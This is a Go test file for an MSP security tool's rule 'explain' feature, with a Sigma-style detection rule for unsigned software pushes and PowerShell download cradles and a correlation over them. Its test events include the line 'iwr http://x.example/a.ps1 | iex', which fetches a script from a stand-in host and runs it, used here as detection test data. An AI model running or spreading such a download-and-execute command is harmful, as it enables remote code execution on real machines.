package console

import (
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/tripline/tripline/contract"
	"github.com/tripline/tripline/engine"
	"github.com/tripline/tripline/store"
)

// whyRules is a pack with a rule of two selections and a filter, and an
// event_count correlation over it.
const whyRules = `title: Unsigned push or download cradle
id: why-rule
status: experimental
logsource:
  product: msp
  category: software_update
detection:
  selection_push:
    event_type: software.push
    package.signed: false
  selection_cradle:
    event_type: script.run
    script.command|contains: 'iwr '
  filter_ticket:
    change.ticket|exists: true
  condition: 1 of selection_* and not filter_ticket
level: high
---
title: Two of them by one technician
id: why-corr
correlation:
  type: event_count
  rules:
    - why-rule
  group-by:
    - actor.user
  timespan: 10m
  condition:
    gte: 2
level: critical
`

// storedEvent is an event as the events table holds it (its normalised
// document).
func storedEvent(t *testing.T, ev contract.Event) store.EventRow {
	t.Helper()
	ev.MSP, ev.Tenant, ev.Tool = "msp-a", "t-1", "kaseya"
	ev.Time = time.Now().UTC().Add(-time.Hour).Truncate(time.Second)
	ev.Actor = contract.Actor{User: "tech1"}
	doc, err := ev.MarshalJSON()
	if err != nil {
		t.Fatal(err)
	}
	return store.EventRow{EventID: ev.EventID, EventType: ev.EventType, Doc: string(doc)}
}

// hits renders a RuleWhy as "search:hit/miss" and "item=value" marks.
func hits(r RuleWhy) string {
	var out []string
	for _, s := range r.Searches {
		mark := "miss"
		if s.Hit {
			mark = "hit"
		}
		out = append(out, s.Name+":"+mark)
		for _, it := range s.Items {
			if it.Hit && it.Field != "" {
				out = append(out, it.Field+"="+it.Value)
			}
		}
	}
	return strings.Join(out, " ")
}

func TestExplain(t *testing.T) {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "why.yml"), []byte(whyRules), 0o600); err != nil {
		t.Fatal(err)
	}
	pack, err := NewRulePack(dir, engine.Config{})
	if err != nil {
		t.Fatal(err)
	}
	no := false
	push := storedEvent(t, contract.Event{EventID: "push", EventType: contract.TypeSoftwarePush,
		Package: contract.Package{Name: "update.msi", Signed: &no}})
	cradle := storedEvent(t, contract.Event{EventID: "cradle", EventType: "script.run",
		Script: contract.Script{Name: "fix.ps1", Command: "iwr http://x.example/a.ps1 | iex"}})
	ticketed := storedEvent(t, contract.Event{EventID: "ticketed", EventType: contract.TypeSoftwarePush,
		Package: contract.Package{Name: "update.msi", Signed: &no}, Change: contract.Change{Ticket: "CHG-1"}})
	broken := store.EventRow{EventID: "broken", Doc: `{"event_type": "software.push", "time": "yesterday"}`}

	for _, tc := range []struct {
		name, rule string
		evs        []store.EventRow
		// want per event: "" for an unreadable one, else hits() of its
		// one rule, prefixed by "match " or "nomatch ".
		want []string
		note string
		corr string // "type cond timespan refs groups" of a correlation
	}{
		{name: "first selection", rule: "why-rule", evs: []store.EventRow{push},
			want: []string{"match selection_push:hit event_type=software.push package.signed=false selection_cradle:miss filter_ticket:miss"}},
		{name: "second selection, field value shown", rule: "why-rule", evs: []store.EventRow{cradle},
			want: []string{"match selection_push:miss selection_cradle:hit event_type=script.run script.command=iwr http://x.example/a.ps1 | iex filter_ticket:miss"}},
		{name: "excluded by its filter today", rule: "why-rule", evs: []store.EventRow{ticketed},
			want: []string{"nomatch selection_push:hit event_type=software.push package.signed=false selection_cradle:miss filter_ticket:hit change.ticket=CHG-1"}},
		{name: "unreadable event", rule: "why-rule", evs: []store.EventRow{broken}, want: []string{""}},
		{name: "rule not in the pack", rule: "gone", evs: []store.EventRow{push}, note: "not in the rule pack"},
		{name: "correlation", rule: "why-corr", evs: []store.EventRow{push, cradle, ticketed},
			corr: "event_count gte 2 10m why-rule=2 actor.user=tech1",
			want: []string{
				"match selection_push:hit event_type=software.push package.signed=false selection_cradle:miss filter_ticket:miss",
				"match selection_push:miss selection_cradle:hit event_type=script.run script.command=iwr http://x.example/a.ps1 | iex filter_ticket:miss",
				"-", // matches no referenced rule: nothing to explain
			}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := pack.Explain(tc.rule, tc.evs)
			if tc.note != "" {
				if !strings.Contains(w.Note, tc.note) || len(w.Events) != 0 {
					t.Fatalf("note %q, %d events; want %q", w.Note, len(w.Events), tc.note)
				}
				return
			}
			if len(w.Events) != len(tc.want) || w.Shown != len(tc.want) || w.Total != len(tc.evs) {
				t.Fatalf("%d events explained (shown %d of %d), want %d", len(w.Events), w.Shown, w.Total, len(tc.want))
			}
			for i, want := range tc.want {
				ew := w.Events[i]
				switch {
				case want == "":
					if ew.Err == "" {
						t.Errorf("event %s: no error for an unreadable event", ew.EventID)
					}
				case want == "-":
					if len(ew.Rules) != 0 || ew.Err != "" {
						t.Errorf("event %s: %+v, want nothing explained", ew.EventID, ew)
					}
				default:
					if len(ew.Rules) != 1 {
						t.Fatalf("event %s: %d rules explained (%s)", ew.EventID, len(ew.Rules), ew.Err)
					}
					got := "nomatch " + hits(ew.Rules[0])
					if ew.Rules[0].Matches {
						got = "match " + hits(ew.Rules[0])
					}
					if got != want {
						t.Errorf("event %s:\n got %s\nwant %s", ew.EventID, got, want)
					}
				}
			}
			if tc.corr != "" {
				c := w.Correlation
				if c == nil {
					t.Fatal("no correlation explained")
				}
				got := c.Type + " " + c.Condition + " " + c.Timespan
				for _, r := range c.Refs {
					got += " " + r.ID + "=" + strconv.Itoa(r.Events)
				}
				for _, g := range c.GroupBy {
					got += " " + g.K + "=" + g.V
				}
				if got != tc.corr {
					t.Errorf("correlation: %q, want %q", got, tc.corr)
				}
			}
		})
	}
}

// BenchmarkExplain is the alert page's "why it matched" for an alert of
// 500 events (store.MaxEvents), the probes already compiled: decoding the
// stored documents, matching, and explaining the first 20.
func BenchmarkExplain(b *testing.B) {
	dir := b.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "why.yml"), []byte(whyRules), 0o600); err != nil {
		b.Fatal(err)
	}
	pack, err := NewRulePack(dir, engine.Config{})
	if err != nil {
		b.Fatal(err)
	}
	no := false
	evs := make([]store.EventRow, store.MaxEvents)
	for i := range evs {
		ev := contract.Event{EventID: "e-" + strconv.Itoa(i), EventType: contract.TypeSoftwarePush, MSP: "msp-a", Tenant: "t-1", Tool: "kaseya",
			Time: time.Now().UTC().Add(-time.Hour).Truncate(time.Second), Actor: contract.Actor{User: "tech1"},
			Package: contract.Package{Name: "update.msi", Signed: &no}, Target: contract.Target{Host: "pc-" + strconv.Itoa(i)}}
		doc, err := ev.MarshalJSON()
		if err != nil {
			b.Fatal(err)
		}
		evs[i] = store.EventRow{EventID: ev.EventID, Doc: string(doc)}
	}
	for _, rule := range []string{"why-rule", "why-corr"} {
		b.Run(rule, func(b *testing.B) {
			pack.Explain(rule, evs) // compile the probes
			b.ReportAllocs()
			for b.Loop() {
				if w := pack.Explain(rule, evs); w.Shown != maxWhyEvents {
					b.Fatalf("%d events explained", w.Shown)
				}
			}
		})
	}
}
